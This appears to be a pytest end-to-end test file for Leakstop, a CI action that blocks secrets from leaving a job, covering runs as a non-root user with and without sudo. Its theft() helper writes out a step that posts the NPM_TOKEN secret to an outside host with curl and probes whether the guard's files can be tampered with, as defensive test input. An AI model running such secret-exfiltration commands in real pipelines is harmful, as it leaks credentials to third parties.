# SPDX-License-Identifier: MIT
"""The action as on a hosted runner: the job's user is not root, but may become it with sudo.

The rest of these tests runs as root, as on many a self-hosted machine. sudo is a stand-in, so
that the machine's own is neither needed nor asked for a password.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest

from e2e.acting import ACTION, Bench, bench
from lab import Lab
from lab.network import BARE
from lab.tokens import Token

pytestmark = [pytest.mark.root, pytest.mark.act]

USER = 31337
"""Nobody's id."""
ELEVATE = "agent/leakstop/cli/elevate.py"
AS_USER = ["setpriv", f"--reuid={USER}", f"--regid={USER}", "--clear-groups", "--"]


@pytest.fixture
def user(lab: Lab) -> Iterator[Bench]:
    """act, as an ordinary user in the lab who can do nothing about it."""
    directory = Path(tempfile.mkdtemp(prefix="act-", dir=lab.directory))
    directory.chmod(0o755)

    runtime = directory / "r"
    runtime.mkdir()
    os.chown(runtime, USER, USER)

    def popen(command: list[str], env: dict[str, str], **options: Any) -> subprocess.Popen[str]:
        # The first four words move into the cgroup, which takes root's rights.
        command = [*command[:4], *AS_USER, *command[4:]]
        return lab.popen(command, env={**env, "XDG_RUNTIME_DIR": str(runtime)}, **options)

    with bench(directory, popen, user=USER) as made:
        yield made


@pytest.fixture
def sudoer(user: Bench) -> Bench:
    """act, as an ordinary user in the lab who has sudo."""
    sudo = user.directory / "sudo"
    subprocess.run(["cc", "-o", sudo, Path(__file__).with_name("sudo.c")], check=True)
    sudo.chmod(0o4755)
    source = user.directory / "action" / ELEVATE
    text = source.read_text()
    assert text.count('"/usr/bin/sudo"') == 1
    source.write_text(text.replace('"/usr/bin/sudo"', repr(str(sudo))))
    return user


def theft(url: str) -> str:
    """A job that is guarded, and a step that steals."""
    return f"""
    - uses: {ACTION}
      with:
        mode: block
        allow: home.test
        secrets: NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}}
    - id: whoami
      run: |
        id -u
        curl -sS -m 10 https://home.test/
        ls -ld /run/leakstop/code-*/leakstop
        touch /run/leakstop/code-*/leakstop/cli/hook.py || echo not writable
    - id: collect
      run: curl -s -m 10 -d "${{{{ secrets.NPM_TOKEN }}}}" {url}
    """


def test_with_sudo_the_guard_is_whole(sudoer: Bench, lab: Lab, secret: Token) -> None:
    outcome = sudoer.run(theft(f"http://{BARE}/"), secrets=[secret])
    lab.settle()
    said = outcome.said("Main", "whoami")
    assert said.splitlines()[0] == str(USER), outcome.text
    assert "drwxr-xr-x" in said and " root root " in said
    assert "not writable" in said
    assert len(lab.home.connections) == 1
    assert lab.collector.connections == []
    assert outcome.red
    (error,) = outcome.annotations()
    assert error.title == "Leakstop: a secret was stopped on its way out"
    assert outcome.report["coverage"]["sensor"] == "kernel"
    assert outcome.shows(secret) == []


def test_without_sudo_nothing_could_be_denied_so_block_is_refused(user: Bench) -> None:
    steps = f"- uses: {ACTION}\n  with: {{mode: block}}\n- id: after\n  run: id\n"
    outcome = user.run(steps)
    assert outcome.red
    assert outcome.result("after") == ""
    (error,) = outcome.annotations()
    assert error.title == "Leakstop: this machine is unsupported"
    assert "the kernel sensor needs root" in error.message
    assert "`mode: audit`" in error.message


def test_without_sudo_audit_observes_and_says_that_it_is_less(user: Bench, lab: Lab) -> None:
    """psutil comes with a release of the action; here it is put where a release has it."""
    vendor = user.directory / "action" / "agent" / "vendor"
    shutil.copytree(Path(psutil.__file__).parent, vendor / "psutil")
    steps = f"- uses: {ACTION}\n- run: curl -sS --limit-rate 1 -m 10 https://other.test/\n"
    outcome = user.run(steps)
    assert not outcome.red, outcome.text
    (run,) = outcome.record("run")
    assert run["coverage"]["sensor"] == "portable"
    assert "Leakstop: only partly watched" in [
        note.title for note in outcome.annotations("warning")
    ]
    assert "only partly watched" in outcome.summary
    assert len(lab.other.connections) == 1
